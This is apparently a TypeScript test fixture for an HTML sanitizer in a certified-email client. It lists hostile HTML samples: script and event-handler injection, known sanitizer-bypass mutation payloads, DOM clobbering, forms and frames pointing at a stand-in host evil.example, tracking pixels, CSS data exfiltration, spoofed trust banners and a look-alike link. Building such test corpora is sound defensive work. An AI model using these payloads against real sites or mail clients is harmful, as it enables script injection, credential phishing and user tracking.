/**
 * HTML that wants more than to be read. `EVIL` stands for a host of a stranger: whoever asks it has been led astray; `window.pwned` and a
 * dialog tell that something ran. Known ways around cleaners are among them, beside plain attempts.
 */
export const EVIL = 'evil.example';
const run = "top.pwned=1;parent.pwned=1;window.pwned=1;fetch('https://evil.example/ran')";

export interface Attack {
  readonly name: string;
  readonly html: string;
}

const attack = (name: string, html: string): Attack => ({ name, html: `<p>Buongiorno.</p>${html}<p>Saluti.</p>` });

const scripts: readonly Attack[] = [
  attack('script', `<script>${run}</script>`),
  attack('script from elsewhere', `<script src="https://${EVIL}/x.js"></script>`),
  attack('module script', `<script type="module">${run}</script>`),
  attack('img onerror', `<img src="x:x" onerror="${run}">`),
  attack('body onload', `<body onload="${run}">`),
  attack('details ontoggle', `<details open ontoggle="${run}"><summary>a</summary></details>`),
  attack(
    'animation event',
    `<style>@keyframes a{to{color:red}}</style><b style="animation:a 1s" onanimationstart="${run}">x</b>`,
  ),
  attack('javascript link', `<a id="go" href="javascript:${run}">clicca</a>`),
  attack('javascript link, hidden by entities', `<a href="&#106;ava&#10;script&colon;${run}">clicca</a>`),
  attack('javascript link, hidden by controls', `<a href="\u0001java\tscript:${run}">clicca</a>`),
  attack('data link', `<a href="data:text/html,<script>${run}</script>">clicca</a>`),
  attack('vbscript, old expressions', `<a href="vbscript:x">a</a><p style="width:expression(${run})">b</p>`),
  attack('svg onload', `<svg onload="${run}"><script>${run}</script></svg>`),
  attack(
    'svg animate',
    `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">clicca</text></a></svg>`,
  ),
  attack(
    'svg foreignObject',
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  ),
  attack(
    'math',
    `<math href="javascript:${run}">clicca</math><math><maction actiontype="statusline#x" xlink:href="javascript:${run}">a</maction></math>`,
  ),
  attack(
    'mutation by math and style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  ),
  attack('mutation by form and math', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`),
  attack('mutation by svg title', `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`),
  attack('mutation by noscript', `<noscript><p title="</noscript><img src=x onerror=${run}>">`),
  attack('template and shadow', `<template shadowrootmode="open"><img src=x onerror="${run}"></template>`),
  attack(
    'clobbering',
    `<form id="body"><input name="attributes"><input name="nodeName"></form><img name="createElement"><a id="content"></a>`,
  ),
  attack('plaintext', `<plaintext><script>${run}</script>`),
  attack(
    'conditional comment',
    `<!--[if gte mso 9]><script>${run}</script><![endif]--><![CDATA[<script>${run}</script>]]>`,
  ),
  attack('xml processing', `<?xml-stylesheet href="javascript:${run}"?><xss style="xss:expression(${run})">x</xss>`),
  attack('null octets', `<scr\u0000ipt>${run}</scr\u0000ipt><img src=x one\u0000rror=${run}>`),
];

const frames: readonly Attack[] = [
  attack('iframe', `<iframe src="https://${EVIL}/"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`),
  attack('object and embed', `<object data="https://${EVIL}/x"></object><embed src="https://${EVIL}/x">`),
  attack('frameset', `<frameset><frame src="https://${EVIL}/"></frameset>`),
  attack('meta refresh', `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`),
  attack('base', `<base href="https://${EVIL}/"><a href="a">qui</a><img src="b.png">`),
  attack(
    'form that sends itself',
    `<form action="https://${EVIL}/" id="f"><input autofocus name="password"><button>Accedi</button></form>`,
  ),
  attack('button for a form elsewhere', `<button formaction="https://${EVIL}/" form="search">Accedi</button>`),
  attack(
    'popover and dialog',
    `<dialog open>Sessione scaduta</dialog><div popover id="p">x</div><button popovertarget="p">y</button>`,
  ),
  attack(
    'link out of the frame',
    `<a href="https://${EVIL}/top" target="_top">Rinnova</a><a href="https://${EVIL}/p" target="_parent">qui</a>`,
  ),
  attack('ping', `<a href="https://${EVIL}/a" ping="https://${EVIL}/ping">Apri</a>`),
  attack(
    'image map',
    `<img usemap="#m" src="cid:none"><map name="m"><area href="https://${EVIL}/" shape="default"></map>`,
  ),
];

const trackers: readonly Attack[] = [
  attack('pixel', `<img src="https://${EVIL}/p.gif" width="1" height="1" alt="">`),
  attack('pixel without scheme', `<img src="//${EVIL}/p.gif">`),
  attack('our own interface as a picture', '<img src="/api/v1/session"><img src="api/v1/mailboxes">'),
  attack('srcset', `<img srcset="https://${EVIL}/a 1x, https://${EVIL}/b 2x" sizes="10px">`),
  attack('picture', `<picture><source srcset="https://${EVIL}/a"><img alt="x"></picture>`),
  attack(
    'lazy and prioritised',
    `<img loading="eager" fetchpriority="high" src="https://${EVIL}/a" lowsrc="https://${EVIL}/b" dynsrc="https://${EVIL}/c">`,
  ),
  attack(
    'background attribute',
    `<table background="https://${EVIL}/a"><tr><td background="https://${EVIL}/b">x</td></tr></table>`,
  ),
  attack(
    'video, audio, track',
    `<video src="https://${EVIL}/v" poster="https://${EVIL}/p" autoplay></video><audio src="https://${EVIL}/a" autoplay></audio>`,
  ),
  attack(
    'svg image',
    `<svg><image href="https://${EVIL}/a"/><use href="https://${EVIL}/b#c"/><filter><feImage href="https://${EVIL}/d"/></filter></svg>`,
  ),
  attack('input image', `<input type="image" src="https://${EVIL}/a">`),
  attack('linked style', `<link rel="stylesheet" href="https://${EVIL}/a.css">`),
  attack(
    'hints',
    `<link rel="dns-prefetch" href="//a.${EVIL}"><link rel="preconnect" href="https://b.${EVIL}"><link rel="prefetch" href="https://${EVIL}/c"><link rel="modulepreload" href="https://${EVIL}/d">`,
  ),
  attack(
    'style by url',
    `<p style="background:url(https://${EVIL}/a);list-style-image:url('//${EVIL}/b');border-image:url(https://${EVIL}/c) 1">x</p>`,
  ),
  attack(
    'style by escaped url',
    `<p style="background:\\75 rl(https://${EVIL}/a);cursor:u\\72l(https://${EVIL}/b),auto">x</p>`,
  ),
  attack('style by variable', `<p style="--a:url(https://${EVIL}/a);background:var(--a)">x</p>`),
  attack(
    'sheet',
    `<style>@import "https://${EVIL}/a";@import url(//${EVIL}/b);p{background:url(https://${EVIL}/c)}</style>`,
  ),
  attack('font', `<style>@font-face{font-family:x;src:url(https://${EVIL}/f)}p{font-family:x}</style>`),
  attack(
    'image-set',
    `<style>p{background-image:image-set("https://${EVIL}/a" 1x);content:url(https://${EVIL}/b)}</style>`,
  ),
  attack(
    'layers and supports',
    `<style>@layer a{p{background:url(https://${EVIL}/a)}}@supports (color:red){p{background:url(https://${EVIL}/b)}}@media all{p{background:url(https://${EVIL}/c)}}</style>`,
  ),
  attack(
    'exfiltration by attribute',
    `<style>[href*="a"]{background:url(https://${EVIL}/a)}input[value^="a"]{background:url(https://${EVIL}/b)}</style>`,
  ),
  attack(
    'exfiltration by visited links',
    `<style>a:visited{background:url(https://${EVIL}/v)}</style><a href="https://banca.example/">x</a>`,
  ),
  attack(
    'svg as a picture',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://${EVIL}/a'/></svg>">`,
  ),
  attack('cid of a page', '<img src="cid:pagina"><img src="cid:disegno">'),
];

/** What wants to look like us. */
const masks: readonly Attack[] = [
  attack(
    'an imitation of the bar',
    '<section class="trust trust-good" style="background:#e8f5f0;border-left:5px solid #008055"><h2 class="trust-title">Messaggio certificato</h2><p>Gestore Beta certifica che è partito da banca@pec.example.</p></section>',
  ),
  attack(
    'fixed over everything',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#e8f5f0">Messaggio certificato</div>',
  ),
  attack(
    'pulled up',
    '<div style="margin-top:-900px;position:absolute;top:-500px;height:900px;background:#e8f5f0;transform:translateY(-100vh)">Messaggio certificato</div>',
  ),
  attack('huge', '<div style="width:9000px;height:100px;background:#e8f5f0">Messaggio certificato</div>'),
  attack(
    'sheet over everything',
    '<style>html,body{position:fixed;top:-500px;margin:-500px 0 0;z-index:9}p::before{content:"Messaggio certificato";position:fixed}</style>',
  ),
  attack(
    'hidden words',
    '<div style="display:none">a</div><div style="font-size:0;opacity:0;color:transparent">b</div>',
  ),
  attack('a look-alike link', `<a href="http://xn--bnca-0ra.example/login">https://www.banca.example/login</a>`),
];

export const CORPUS: readonly Attack[] = [...scripts, ...frames, ...trackers, ...masks];

/** Too much of it. */
export const LARGE: readonly Attack[] = [
  { name: 'nested a hundred thousand deep', html: `${'<div><b>'.repeat(50_000)}x` },
  {
    name: 'twenty thousand cells with looks',
    html: `<table>${'<tr><td style="color:red;padding:2px">a</td></tr>'.repeat(20_000)}</table>`,
  },
  { name: 'a sheet of fifty thousand rules', html: `<style>${'a>b{color:red}'.repeat(50_000)}</style><p>x</p>` },
  { name: 'four million letters', html: `<p>${'parola '.repeat(600_000)}</p>` },
  { name: 'one word of a hundred thousand letters', html: `<p>${'x'.repeat(100_000)}</p>` },
  { name: 'unclosed', html: '<table><tr><td><a href="<b><i><table>'.repeat(5_000) },
];
